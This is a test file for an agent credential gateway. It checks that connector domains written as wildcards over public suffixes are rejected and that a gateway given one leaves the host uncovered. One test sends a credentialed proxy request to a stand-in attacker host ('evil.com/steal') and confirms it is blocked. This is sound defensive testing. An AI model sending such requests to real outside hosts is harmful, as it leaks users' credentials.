// Issue 9 item 5: a connector domain that is a wildcard over a public suffix (`*.com`, `*.co.uk`,
// `*.github.io`) would let an agent send the connector's credential to any site registered under it.
// Refused with a validation error naming the domain by the API, the CLI and config apply; and a
// gateway handed one anyway (a snapshot pushed straight to it) ignores it: the host stays uncovered.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliFor } from '../cli/cli-harness.js';
import { type DaemonProcess, startDaemonProcess } from '../helpers/spawn-daemon.js';
import { type RunningServer, startHttpServer } from '../helpers/test-ca.js';
import { onlyResponse, problemOf, rawExchange } from './raw-http.js';
import { type SecurityGateway, startSecurityGateway } from './security-gateway.js';

let work: string;
let daemon: DaemonProcess;
let cli: ReturnType<typeof cliFor>;
let token: string;

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'tf-domains-'));
  daemon = await startDaemonProcess();
  cli = cliFor(daemon);
  token = readFileSync(join(daemon.dataDir, 'cli.token'), 'utf8').trim();
}, 60_000);

afterAll(async () => {
  await daemon?.stop();
  if (work) rmSync(work, { recursive: true, force: true });
});

function addConnector(body: Record<string, unknown>) {
  return fetch(`${daemon.controlUrl}/v1/connectors`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
}

const TOO_WIDE = [
  '*.com',
  '*.co.uk',
  '*.github.io',
  '*.COM',
  '*.com:443',
  '*.herokuapp.com',
  '*.uk',
  '*.foo.ck',
];

describe('the API', () => {
  for (const domain of TOO_WIDE) {
    it(`refuses ${domain} with 400 validation_failed naming it`, async () => {
      const res = await addConnector({ type: 'generic', name: 'wide', domains: ['api.example.com', domain] });
      expect(res.status).toBe(400);
      const problem = (await res.json()) as Record<string, unknown>;
      expect(problem['code']).toBe('validation_failed');
      expect(String(problem['detail']).toLowerCase()).toContain(domain.toLowerCase());
    });
  }

  it('accepts a wildcard under a registrable domain', async () => {
    const res = await addConnector({ type: 'generic', name: 'narrow', domains: ['*.api.example.co.uk'] });
    expect(res.status).toBe(201);
    const own = await addConnector({ type: 'generic', name: 'pages', domains: ['*.octo.github.io'] });
    expect(own.status).toBe(201);
  });
});

describe('the CLI and config apply', () => {
  it('connector add --domains "*.github.io": one clear line naming the domain, nothing created', async () => {
    const run = await cli(['connector', 'add', 'generic', '--name', 'pages-all', '--domains', '*.github.io']);
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain('*.github.io');
    expect(run.stderr).toMatch(/public suffix github\.io/);
    const list = await cli(['connector', 'list', '--json']);
    expect(list.stdout).not.toContain('pages-all');
  });

  it('config apply refuses a document with *.com and names where it is', async () => {
    const file = join(work, 'wide.yaml');
    writeFileSync(
      file,
      'version: 1\nconnectors:\n  - name: everything\n    type: generic\n    domains:\n      - api.example.com\n      - "*.com"\n',
    );
    const run = await cli(['config', 'apply', '-f', file]);
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain('*.com');
    expect(run.stderr).toMatch(/connectors.*0.*domains.*1|connectors\[0\]\.domains\[1\]/);
    expect((await cli(['connector', 'list', '--json'])).stdout).not.toContain('everything');
  });
});

describe('a gateway handed one anyway', () => {
  let gw: SecurityGateway;
  let upstream: RunningServer<import('node:http').Server>;
  let reached = 0;

  beforeAll(async () => {
    upstream = await startHttpServer((_req, res) => {
      reached++;
      res.end('reached');
    });
    gw = await startSecurityGateway({
      extraArgs: ['--connect-to', `evil.com:80:127.0.0.1:${upstream.port}`],
      mutate(s) {
        s.connectors.push({
          id: 'c-wide',
          name: 'wide',
          type: 'generic',
          domains: ['*.com', '*.example.com'],
          auth: 'none',
          intercept: true,
          options: {},
        });
        s.permissions.push({
          id: 'bot-wide',
          agent: 'bot',
          connector: 'wide',
          action: 'http.*',
          decision: 'allow',
        });
      },
    });
  }, 60_000);

  afterAll(async () => {
    await gw?.close();
    await upstream?.close();
  });

  it('covers nothing with it (connector_not_found), keeps the rest, and says so in its log', async () => {
    const res = onlyResponse(
      await rawExchange(
        gw.port,
        `GET http://evil.com/steal HTTP/1.1\r\nHost: evil.com\r\nProxy-Authorization: ${gw.proxyAuth()}\r\nConnection: close\r\n\r\n`,
      ),
    );
    expect(res.status).toBe(403);
    expect(problemOf(res)['code']).toBe('connector_not_found');
    expect(reached).toBe(0);
    expect(gw.daemon.logs()).toMatch(/connector wildcards over a public suffix cover nothing/);
    const health = (await (await fetch(`${gw.daemon.gatewayUrl}/health`)).json()) as { connectors: number };
    expect(health.connectors).toBe(gw.snapshot.connectors.length);
  });
});
